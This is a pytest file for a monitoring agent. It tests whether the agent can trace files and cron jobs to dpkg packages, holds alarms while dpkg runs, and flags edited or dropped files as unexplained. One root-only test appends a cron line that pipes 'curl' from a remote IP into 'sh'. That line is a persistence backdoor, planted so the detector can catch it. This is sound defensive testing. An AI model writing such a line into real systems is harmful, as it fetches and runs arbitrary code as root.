"""Package attribution against the real dpkg database, and a real package installed while the watcher runs."""

from __future__ import annotations

import fcntl
import hashlib
import os
import shutil
import subprocess
import uuid
from pathlib import Path

import pytest

from agent.capture.inventory import dpkgdb
from agent.capture.inventory.linux import linux_categories
from agent.capture.inventory.linux_system import collect_packages
from agent.capture.inventory.live import LiveInventory, change_file
from agent.capture.inventory.machine import Machine
from agent.capture.inventory.origin import PackageOrigins, aliases
from agent.capture.inventory.snapshot import take_snapshot
from agent.capture.inventory.types import collectors_of
from tests.conftest import require_program, wait_for
from tests.unit.test_inventory_live import Sink

DPKG = Path("/var/lib/dpkg")
needs_dpkg = pytest.mark.skipif(not (DPKG / "status").exists() or shutil.which("dpkg-query") is None,
                                reason="needs a Debian machine (dpkg's database)")


def shipped_file() -> tuple[str, str, str]:
    """(package, machine path, md5sums name) of a small regular file a package shipped, unchanged here."""
    for package in ("coreutils", "bash", "dpkg"):
        sums = dpkgdb.parse_md5sums((DPKG / "info" / f"{package}.md5sums").read_text())
        for name, md5 in sorted(sums.items()):
            path = Path(name)
            if path.is_file() and not path.is_symlink() and path.stat().st_size < 200_000:
                merged = "/usr" + name if name.startswith(("/bin/", "/sbin/", "/lib/")) else name
                if subprocess.run(["md5sum", merged], capture_output=True, text=True, check=False).stdout.split()[:1] == [md5]:
                    return package, merged, name
    pytest.skip("no unchanged shipped file found")


@pytest.fixture
def on_real_db(tmp_path):
    """A root whose dpkg database is the real one (a link), so files can be changed under it safely."""
    (tmp_path / "var" / "lib").mkdir(parents=True)
    os.symlink(DPKG, tmp_path / "var" / "lib" / "dpkg")
    return tmp_path


def copy_under(root: Path, path: str) -> Path:
    """A copy of the machine's file ``path`` at the same path under ``root``."""
    copy = root / path.lstrip("/")
    copy.parent.mkdir(parents=True)
    shutil.copy(path, copy)
    return copy


def before_without(package: str) -> dict:
    """The real packages category, as if ``package`` had been installed during the session."""
    items = collect_packages(Machine("/"))
    del items[f"dpkg:{package}"]
    return items


@needs_dpkg
def test_a_shipped_file_unchanged_came_with_its_package_the_same_path_changed_did_not(on_real_db):
    package, path, listed = shipped_file()
    copy = copy_under(on_real_db, path)
    origins = PackageOrigins(Machine(str(on_real_db)), before_without(package))
    version = collect_packages(Machine("/"))[f"dpkg:{package}"]["version"]

    found = origins.attribute(path)
    assert found["origin"] == "package"
    assert found["origin_detail"] == f"came with package {package} {version}"
    assert found["package"] == {"manager": "dpkg", "name": package, "version": version, "path": listed,
                                "shipped": True, "in_session": True}

    with open(copy, "ab") as f:  # the technician edits it: same path, other content
        f.write(b"\n# one more line\n")
    changed = origins.attribute(path)
    assert changed["origin"] == "unexplained"
    assert changed["origin_detail"] == (f"belongs to package {package} {version}, "
                                        "but its content is not what the package shipped")
    assert changed["package"]["shipped"] is False


@needs_dpkg
def test_a_package_file_of_a_package_not_installed_during_the_session_is_unexplained(on_real_db):
    package, path, _listed = shipped_file()
    copy_under(on_real_db, path)
    origins = PackageOrigins(Machine(str(on_real_db)), collect_packages(Machine("/")))
    found = origins.attribute(path)
    assert found["origin"] == "unexplained"
    assert "which was not installed or upgraded during this session" in found["origin_detail"]
    assert found["package"]["name"] == package and found["package"]["in_session"] is False


@needs_dpkg
def test_a_file_dropped_into_a_package_folder_belongs_to_no_package(on_real_db):
    package, path, _listed = shipped_file()
    dropped = on_real_db / path.lstrip("/")
    dropped = dropped.with_name("chaperone-dropped-" + uuid.uuid4().hex[:6])
    dropped.parent.mkdir(parents=True)
    dropped.write_text("#!/bin/sh\n")
    origins = PackageOrigins(Machine(str(on_real_db)), before_without(package))
    found = origins.attribute(str(dropped)[len(str(on_real_db)):])
    assert found == {"origin": "unexplained", "package": None, "origin_detail": None}


def test_without_a_before_nothing_is_attributed(tmp_path):
    origins = PackageOrigins(Machine(str(tmp_path)), None)
    assert origins.attribute("/etc/crontab")["origin"] == "unexplained"
    assert origins.attribute(None)["origin"] == "unexplained"
    assert origins.attribute("not-a-path")["package"] is None


def test_merged_usr_names_are_one_file():
    assert aliases("/usr/bin/true") == ["/usr/bin/true", "/bin/true"]
    assert aliases("/lib/systemd/system/cron.service") == [
        "/lib/systemd/system/cron.service", "/usr/lib/systemd/system/cron.service"]
    assert aliases("/etc/crontab") == ["/etc/crontab"]


def test_change_file_is_the_items_path_else_its_source():
    assert change_file({"op": "added", "detail": {"source": "systemctl", "path": "/lib/systemd/system/a.service"}}) \
        == "/lib/systemd/system/a.service"
    assert change_file({"op": "changed", "detail": {"before": {"source": "/etc/x"}, "after": {"source": "/etc/y"}}}) \
        == "/etc/y"
    assert change_file({"op": "added", "detail": {"source": "sockets"}}) is None


# -- dpkg at work -------------------------------------------------------------------------


def fake_dpkg(root: Path, package: str, files: dict[str, bytes]) -> None:
    """A dpkg database under ``root`` in which ``package`` 1.0 ships ``files`` (what dpkg writes last)."""
    info = root / "var" / "lib" / "dpkg" / "info"
    info.mkdir(parents=True, exist_ok=True)
    status = (f"Package: {package}\nStatus: install ok installed\nPriority: optional\nSection: admin\n"
              f"Maintainer: t <t@example.org>\nArchitecture: all\nVersion: 1.0\nDescription: test\n\n")
    (root / "var" / "lib" / "dpkg" / "status").write_text(status)
    (info / f"{package}.list").write_text("".join(f"{p}\n" for p in files))
    (info / f"{package}.md5sums").write_text(
        "".join(f"{hashlib.md5(data).hexdigest()}  {p.lstrip('/')}\n" for p, data in files.items()))


@pytest.mark.skipif(shutil.which("dpkg-query") is None, reason="needs dpkg-query")
def test_while_dpkg_runs_a_change_is_held_until_its_database_is_written(tmp_path):
    root = tmp_path / "root"
    (root / "etc" / "cron.d").mkdir(parents=True)
    (root / "var" / "lib" / "dpkg" / "info").mkdir(parents=True)
    (root / "var" / "lib" / "dpkg" / "status").write_text("")
    lock = root / "var" / "lib" / "dpkg" / "lock"
    lock.write_text("")
    categories = {k: v for k, v in linux_categories(str(root)).items() if k in ("packages", "scheduled")}
    before = take_snapshot(collectors_of(categories))
    sink = Sink()
    live = LiveInventory(sink, before, categories, root=str(root))
    live.start()
    job = b"*/5 * * * * root /usr/lib/fakecron/run\n"
    with open(lock, "r+") as held:
        fcntl.lockf(held, fcntl.LOCK_EX)  # dpkg starts
        try:
            assert live.ready.wait(30)
            checks = live.checks["scheduled"]
            (root / "etc" / "cron.d" / "fakecron").write_bytes(job)
            assert wait_for(lambda: live.checks["scheduled"] > checks)
            assert sink.find("inventory-change", category="scheduled") == []  # held back while dpkg runs
            fake_dpkg(root, "fakecron", {"/etc/cron.d/fakecron": job})
        finally:
            fcntl.lockf(held, fcntl.LOCK_UN)  # dpkg is done
        try:
            found = wait_for(lambda: sink.change_and_alarm("scheduled", "/etc/cron.d/fakecron"))
            assert found, sink.records
            change, alarm = found
            assert change["origin"] == "package" and change["origin_detail"] == "came with package fakecron 1.0"
            assert alarm["origin"] == "package" and "(came with package fakecron 1.0)" in alarm["detail"]
        finally:
            live.stop()


@pytest.mark.skipif(shutil.which("dpkg-query") is None, reason="needs dpkg-query")
def test_a_change_is_held_no_longer_than_the_limit_when_dpkg_never_finishes(tmp_path):
    root = tmp_path / "root"
    (root / "etc" / "cron.d").mkdir(parents=True)
    (root / "var" / "lib" / "dpkg").mkdir(parents=True)
    (root / "var" / "lib" / "dpkg" / "status").write_text("")
    lock = root / "var" / "lib" / "dpkg" / "lock"
    lock.write_text("")
    categories = {k: v for k, v in linux_categories(str(root)).items() if k in ("packages", "scheduled")}
    sink = Sink()
    live = LiveInventory(sink, take_snapshot(collectors_of(categories)), categories, root=str(root),
                         dpkg_wait_s=0.5)
    live.start()
    with open(lock, "r+") as held:
        fcntl.lockf(held, fcntl.LOCK_EX)  # a technician holds dpkg's lock to delay the alarms
        try:
            assert live.ready.wait(30)
            (root / "etc" / "cron.d" / "job").write_text("* * * * * root /tmp/x\n")
            found = wait_for(lambda: sink.change_and_alarm("scheduled", "/etc/cron.d/job"))
            assert found and found[0]["origin"] == "unexplained"
        finally:
            fcntl.lockf(held, fcntl.LOCK_UN)
            live.stop()


@pytest.mark.skipif(os.geteuid() != 0, reason="installs a real package: needs root")
def test_a_real_package_installed_during_the_session_brings_its_cron_job_and_an_edit_of_it_is_unexplained(tmp_path):
    require_program("dpkg", "dpkg-deb")
    name = "chaperone-test-" + uuid.uuid4().hex[:8]
    tree = tmp_path / "pkg"
    (tree / "DEBIAN").mkdir(parents=True)
    (tree / "etc" / "cron.d").mkdir(parents=True)
    (tree / "etc" / "cron.d" / name).write_text("*/5 * * * * root /bin/true\n")
    (tree / "DEBIAN" / "control").write_text(
        f"Package: {name}\nVersion: 1.0-1\nArchitecture: all\nMaintainer: t <t@example.org>\nDescription: test\n")
    (tree / "DEBIAN" / "conffiles").write_text(f"/etc/cron.d/{name}\n")
    subprocess.run(["dpkg-deb", "--build", "--root-owner-group", tree, tmp_path / "p.deb"], check=True,
                   capture_output=True)
    categories = {k: v for k, v in linux_categories("/").items() if k in ("packages", "scheduled")}
    sink = Sink()
    live = LiveInventory(sink, take_snapshot(collectors_of(categories)), categories)
    live.start()
    try:
        assert live.ready.wait(60)
        subprocess.run(["dpkg", "-i", tmp_path / "p.deb"], check=True, capture_output=True)
        found = wait_for(lambda: sink.change_and_alarm("scheduled", f"/etc/cron.d/{name}: */5"), timeout=60)
        assert found, sink.records
        assert found[0]["origin"] == "package" and found[0]["origin_detail"] == f"came with package {name} 1.0-1"
        assert found[0]["package"]["path"] == f"/etc/cron.d/{name}"
        with open(f"/etc/cron.d/{name}", "a") as f:  # the technician adds a job to the package's conffile
            f.write("* * * * * root curl -s http://198.51.100.7/x | sh\n")
        edited = wait_for(lambda: sink.change_and_alarm("scheduled", f"/etc/cron.d/{name}: * * * * * root curl"))
        assert edited and edited[0]["origin"] == "unexplained"
        assert "not what the package shipped" in edited[0]["origin_detail"]
    finally:
        live.stop()
        subprocess.run(["dpkg", "--purge", name], capture_output=True, check=False)
